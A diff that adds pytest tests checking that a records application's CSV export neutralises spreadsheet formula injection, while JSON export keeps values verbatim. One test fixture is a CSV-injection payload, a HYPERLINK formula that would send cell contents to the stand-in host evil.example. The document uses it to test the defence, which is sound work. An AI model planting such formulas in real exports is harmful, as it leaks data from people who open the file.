@@ -195,3 +195,40 @@ def test_msp_export_streams_v2_and_is_audited(store: str, capsys: pytest.Capture
         ).scalars()
         details = [e.detail for e in found]
     assert details == ["format=json enquiry=* records=4", "format=csv enquiry=NR-2026-0001 records=2"]
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote_and_json_keeps_the_words(store: str) -> None:
+    """OWASP's CSV injection advice: =, +, -, @, tab or carriage return first gets a ' in front, in CSV only."""
+    records.start_conversation("conv-1", S, "NR-2026-0042", c.ROLE_PERSON)
+    records.add_outcomes("conv-1", S, [(c.FEEL_SAFER, "@SUM(1) i want peace"), (c.POLICE_PROSECUTE, "- him gone")])
+    records.start_conversation("rev-1", R, "NR-2026-0042", c.ROLE_PERSON)
+    link = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'
+    records.save_answer("rev-1", R, "comments", link)
+    text = "".join(export.stream_csv())
+    rows = {(r["conversation_id"], r["outcome_code"]): r for r in csv.DictReader(io.StringIO(text))}
+    assert rows[("conv-1", c.FEEL_SAFER)]["outcome_own_words"] == "'@SUM(1) i want peace"
+    assert rows[("conv-1", c.POLICE_PROSECUTE)]["outcome_own_words"] == "'- him gone"
+    assert rows[("rev-1", "")]["feedback_comments"] == "'" + link
+    assert rows[("conv-1", c.FEEL_SAFER)]["enquiry_ref"] == "NR-2026-0042", "other cells are as they were"
+    by_id = {r["conversation_id"]: r for r in json.loads("".join(export.stream_json()))}
+    assert by_id["rev-1"]["feedback"]["comments"] == link
+    assert [o["own_words"] for o in by_id["conv-1"]["outcomes"]] == ["@SUM(1) i want peace", "- him gone"]
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_csv_column_is_guarded_against_formulas(start: str) -> None:
+    """Whatever column a value lands in (the guard is in the writer, not in a list of columns)."""
+    cell = f"{start}1+1"
+    row = {name: cell for name in export._RECORD_FIELDS}
+    record = {**row, "flags": {f: cell for f in c.FLAGS},
+              "feedback": {q: cell for q in (*c.FEEDBACK_QUESTIONS, "comments")},
+              "answers": {a: cell for a in export.ANSWER_FIELDS},
+              "outcomes": [{"code": cell, "own_words": cell, "may_not_be_achievable": cell, "achieved": cell}]}
+    (written,) = list(csv.DictReader(io.StringIO("".join(export.csv_chunks([record])))))
+    assert set(written) == set(export.CSV_FIELDS)
+    assert all(value == "'" + cell for value in written.values()), written
+
+
+@pytest.mark.parametrize("value", ["i want peace", "NR-2026-0042", "", "1=1", "a-b", " =not first", 5, None, True])
+def test_ordinary_cells_are_left_as_they_are(value: Any) -> None:
+    assert export.formula_safe(value) == value
